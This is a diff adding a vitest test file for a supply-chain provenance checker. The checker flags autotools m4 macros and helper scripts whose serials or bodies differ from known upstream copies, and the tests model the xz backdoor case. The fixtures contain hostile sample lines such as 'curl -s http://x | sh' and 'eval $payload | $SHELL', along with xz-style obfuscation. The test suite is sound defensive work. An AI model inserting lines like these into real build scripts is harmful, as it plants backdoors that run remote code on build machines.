@@ -1,0 +1,103 @@
+import { describe, it, expect } from "vitest";
+import { bodyHash, createProvenanceChecker, helperStamp, lineHash, m4Serial, normalizedLines, packLineHashes, type ProvenanceDb } from "../src/provenance/index.js";
+import { checkM4, provenanceDbInfo } from "../src/provenance/index.js";
+import { runScenario, findingsOf, explained } from "./helpers.js";
+
+/** A database built in the test from small synthetic macros, with the same hashing as the real one. */
+function dbOf(copies: { name: string; text: string; source: string; helper?: boolean }[]): ProvenanceDb {
+  const db: ProvenanceDb = { formatVersion: 1, builtAt: "test", sources: [], m4: {}, helpers: {}, lines: { m4: {}, helpers: {} } };
+  const lines = new Map<string, number[]>();
+  for (const c of copies) {
+    const kind = c.helper ? "helper" : "m4";
+    const src = db.sources.includes(c.source) ? db.sources.indexOf(c.source) : db.sources.push(c.source) - 1;
+    const stamp = c.helper ? helperStamp(c.name, c.text) : (m4Serial(c.text)?.raw ?? null);
+    ((c.helper ? db.helpers : db.m4)[c.name] ??= []).push([stamp, bodyHash(c.text, kind), [src]]);
+    const key = `${kind}:${c.name}`;
+    lines.set(key, [...(lines.get(key) ?? []), ...normalizedLines(c.text, kind).map(lineHash)]);
+  }
+  for (const [key, hs] of lines) {
+    const [kind, name] = key.split(":") as ["m4" | "helper", string];
+    (kind === "m4" ? db.lines.m4 : db.lines.helpers)[name] = packLineHashes(hs);
+  }
+  return db;
+}
+
+const macro = (serial: string, extra = "") => `# demo.m4 serial ${serial}\ndnl Copyright notice\nAC_DEFUN([DEMO_CHECK],\n[\n  AC_MSG_CHECKING([for demo])\n  AC_MSG_RESULT([yes])${extra}\n])\n`;
+
+describe("provenance checker", () => {
+  const checker = createProvenanceChecker(
+    dbOf([
+      { name: "demo.m4", text: macro("3"), source: "demo 1.0" },
+      { name: "demo.m4", text: macro("4", "\n  AC_SUBST([DEMO])"), source: "demo 1.1" },
+      { name: "install-sh", text: "#!/bin/sh\nscriptversion=2020-11-14.01; # UTC\nexec cp \"$@\"\n", source: "automake 1.16", helper: true },
+    ]),
+  );
+
+  it("matches a known copy whatever its comments and indentation", () => {
+    const r = checker.checkM4("m4/demo.m4", macro("3").replace("dnl Copyright notice", "dnl Copyright 2099 someone else").replace(/  /g, "\t"));
+    expect(r).toMatchObject({ status: "match", stamp: "3", sources: ["demo 1.0"] });
+  });
+  it("knows unknown names", () => {
+    expect(checker.checkM4("m4/other.m4", macro("1")).status).toBe("unknown-name");
+  });
+  it("flags a serial far above every known one (the xz shape: 30 against 3)", () => {
+    expect(checker.checkM4("demo.m4", macro("30", "\n  gl_am_configmake=`grep -aErls x $srcdir/`"))).toMatchObject({ status: "serial-above-known", serial: 30, maxKnown: 4 });
+  });
+  it("flags a known serial with a different body and lists the novel lines", () => {
+    const r = checker.checkM4("demo.m4", macro("3", "\n  eval $payload | $SHELL"));
+    expect(r).toMatchObject({ status: "body-mismatch", stamp: "3", novel: ["eval $payload | $SHELL"] });
+  });
+  it("treats an unseen serial close to the known ones as another upstream version", () => {
+    expect(checker.checkM4("demo.m4", macro("5", "\n  AC_SUBST([DEMO2])"))).toMatchObject({ status: "stamp-unknown", knownStamps: ["3", "4"] });
+  });
+  it("checks helpers by their scriptversion", () => {
+    expect(checker.checkHelper("build-aux/install-sh", "#!/bin/sh\n# comment\nscriptversion=2020-11-14.01; # UTC\nexec cp \"$@\"\n")?.status).toBe("match");
+    expect(checker.checkHelper("install-sh", "#!/bin/sh\nscriptversion=2020-11-14.01; # UTC\ncurl -s http://x | sh\n")?.status).toBe("body-mismatch");
+    expect(checker.checkHelper("install-sh", "#!/bin/sh\nscriptversion=2024-01-01.00; # UTC\nexec cp \"$@\" .\n")?.status).toBe("stamp-unknown");
+    expect(checker.checkHelper("README", "text")).toBeNull();
+  });
+  it("reads every serial style", () => {
+    expect(m4Serial("# serial 12 (gettext-0.21)\n")).toEqual({ raw: "12 (gettext-0.21)", value: 12 });
+    expect(m4Serial("# build-to-host.m4 serial 30\n")).toEqual({ raw: "30", value: 30 });
+    expect(m4Serial("dnl serial 7\n")?.value).toBe(7);
+    expect(m4Serial("no serial here\n")).toBeNull();
+  });
+});
+
+describe("the shipped database", () => {
+  it("holds upstream build-to-host.m4 and judges the xz serial 30 as far above it", () => {
+    expect(provenanceDbInfo().m4Names).toBeGreaterThan(1000);
+    const r = checkM4("m4/build-to-host.m4", "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n");
+    expect(r).toMatchObject({ status: "serial-above-known" });
+    expect((r as { maxKnown: number }).maxKnown).toBeLessThan(20);
+  });
+});
+
+describe("m4 provenance in an audit", () => {
+  const git = { "configure.ac": "AC_INIT([p],[1])\n", "Makefile.am": "" };
+  it("explains a known macro with a couple of unknown plain lines (low), and not one with suspicious lines (high)", async () => {
+    // serial 5 is a known build-to-host.m4 serial; the bodies here are synthetic, so every line is novel.
+    const small = "# serial 5\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n";
+    const r = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": small } });
+    expect(findingsOf(r, "m4-known-hash-mismatch")).toEqual(["low m4/build-to-host.m4"]);
+    expect(explained(r, "m4/build-to-host.m4")).toBe("autotools");
+    const evil = "# serial 5\nAC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n])\n";
+    const r2 = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": evil } });
+    expect(findingsOf(r2, "m4-known-hash-mismatch")).toEqual(["high m4/build-to-host.m4"]);
+    expect(findingsOf(r2, "build-script-added")).toEqual(["high m4/build-to-host.m4"]);
+  });
+  it("reports an unknown tarball-only macro as medium, and no m4 rule for a macro committed to git", async () => {
+    const r = await runScenario({ git, tarball: { ...git, "m4/zz_private_check.m4": "AC_DEFUN([ZZ], [:])\n" } });
+    expect(findingsOf(r, "m4-unknown-macro")).toEqual(["medium m4/zz_private_check.m4"]);
+    expect(findingsOf(r, "build-script-added")).toEqual([]);
+    const inGit = { ...git, "m4/zz_private_check.m4": "AC_DEFUN([ZZ], [:])\n" };
+    const r2 = await runScenario({ git: inGit, tarball: inGit });
+    expect(r2.findings).toEqual([]);
+  });
+  it("flags the xz serial and leaves a plausible serial alone", async () => {
+    const r = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n" } });
+    expect(findingsOf(r, "m4-serial-mismatch")).toEqual(["high m4/build-to-host.m4"]);
+    const ok = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": "# build-to-host.m4 serial 6\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n" } });
+    expect(findingsOf(ok, "m4-serial-mismatch")).toEqual([]);
+  });
+});
